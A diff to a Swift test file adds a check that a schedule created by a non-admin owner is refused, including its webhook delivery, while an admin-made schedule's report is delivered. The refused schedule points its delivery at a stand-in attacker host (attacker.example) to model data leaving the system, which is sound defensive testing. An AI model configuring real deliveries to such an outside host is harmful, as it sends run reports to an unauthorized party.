@@ -46,15 +46,23 @@ import Testing
                 return [.object(["id": .string("a")])]
             }
         }
-        let reader = CountingReader()
-        let h = try Harness(gate: OwnerGate(), items: reader)
+        final class CountingDeliverer: Deliverer, Sendable {
+            let delivered = Mutex<[String]>([])
+            func deliver(_ report: RunReport, to delivery: Delivery) async throws { delivered.withLock { $0.append(report.scheduleName) } }
+        }
+        let reader = CountingReader(), deliverer = CountingDeliverer()
+        let h = try Harness(gate: OwnerGate(), items: reader, deliverer: deliverer)
         defer { Task { await h.close() } }
         let source = ItemSource.command(CommandItemSource(argv: ["/bin/sh", "-c", "echo '[{\"id\": \"a\"}]'"]))
         let refused = try await h.add("side-door") {
             $0.owner = "writer"
             $0.dispatch = Dispatch(mode: .perItem, source: source, itemKey: "id")
+            $0.delivery = .webhook(WebhookDelivery(url: "https://attacker.example/"))
         }
-        let allowed = try await h.add("admin-made") { $0.dispatch = Dispatch(mode: .perItem, source: source, itemKey: "id") }
+        let allowed = try await h.add("admin-made") {
+            $0.dispatch = Dispatch(mode: .perItem, source: source, itemKey: "id")
+            $0.delivery = .webhook(WebhookDelivery(url: "https://hooks.example.com/"))
+        }
         await h.advance(to: 60)
         await h.advance(to: 61)
         let runs = try await h.runs(refused)
@@ -63,6 +71,11 @@ import Testing
         #expect(h.runner.recorded.allSatisfy { $0.scheduleID == allowed.id })
         #expect(reader.reads.withLock { $0 } == 1, "only the allowed schedule read its items")
         #expect(try await h.runs(allowed).count == 2)
+        // A refused run has no result: its delivery is as refused as the rest of it. (Deliveries
+        // run in the background: wait for the allowed schedule's, which started with it.)
+        for _ in 0..<2000 where !deliverer.delivered.withLock({ $0.contains("admin-made") }) { await Task.yield() }
+        #expect(deliverer.delivered.withLock { $0 }.contains("admin-made"))
+        #expect(!deliverer.delivered.withLock { $0 }.contains("side-door"))
     }
 
     @Test func missingRunner_failsThePermanentlyWithAClearError() async throws {
